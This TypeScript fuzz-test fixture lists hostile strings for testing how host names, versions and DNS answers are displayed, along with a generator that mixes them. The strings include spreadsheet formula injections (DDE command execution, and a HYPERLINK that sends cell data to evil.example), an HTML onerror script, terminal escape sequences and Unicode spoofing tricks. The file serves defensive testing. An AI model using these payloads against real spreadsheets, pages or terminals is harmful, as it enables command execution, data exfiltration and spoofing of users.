/** Hostile text for host names, versions, certificates and DNS answers. */
import fc from "fast-check";

/** One for each way in which some reader takes text for more than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=1+1",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r\n=1+1",
  ' \u00a0\u3000"=1+1',
  "'=1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "n1;=1+1",
  'n1,"=1+1',
  "see https://evil.example/a?b=c",
  "www.evil.example",
  "root@evil.example mailto:root@evil.example xmpp:a@b.example",
  "[omni](https://evil.example)",
  "![x](https://evil.example/x.png)",
  "[omni]: https://evil.example 'x'",
  "<https://evil.example> <img src=x onerror=alert(1)> <!-- x --> &lt;b&gt;",
  "@team fixes #1 GH-1 owner/repo#1 owner/repo@deadbeefdeadbeef !1 ~bug %v1 &1 :tada:",
  "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef",
  "# heading **bold** __bold__ ~~gone~~ ==mark== $x^2$ $`x`$ [^1] - [ ] x 1. y",
  "| a | b |\n|---|---|\n| \\| |",
  "\\|\\\\| trailing \\",
  "``` `` ` ```js\ncode\n```",
  "`",
  "`code`|`",
  " both ends ",
  "   ",
  "\u001b[2J\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u009b31m \u0085 \u007f \u0000",
  "a\u202egnp.exe\u2066x\u2069\u200f",
  "pay\u200bpal\u200c\u200d\u2060\ufeff om\u00adni",
  "n1\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}",
  "a\u2028b\u2029c\u000bd\u000ce",
  "\u3164\u115f\u2800",
  "a\ufe0f\u{e0100} \ud800 \ue000",
  "Zürich 例え.jp مرحبا 👩‍👩‍👧 e\u0301",
];

/** Any text, made of what the texts above are made of as often as of anything else. */
export function anyHostileText(): fc.Arbitrary<string> {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE_TEXTS),
    fc.constantFrom(
      ..."`|\\ \t\r\n\"';,=+-@<>[]()!*_~#&:/.\u00a0\u200b\u202e＝",
      "``",
      "http://",
      "www.",
      "a@b.c",
      "a",
    ),
    fc.string({ unit: "grapheme", maxLength: 3 }),
    fc.string({ unit: "binary", maxLength: 3 }),
  );
  return fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(""));
}
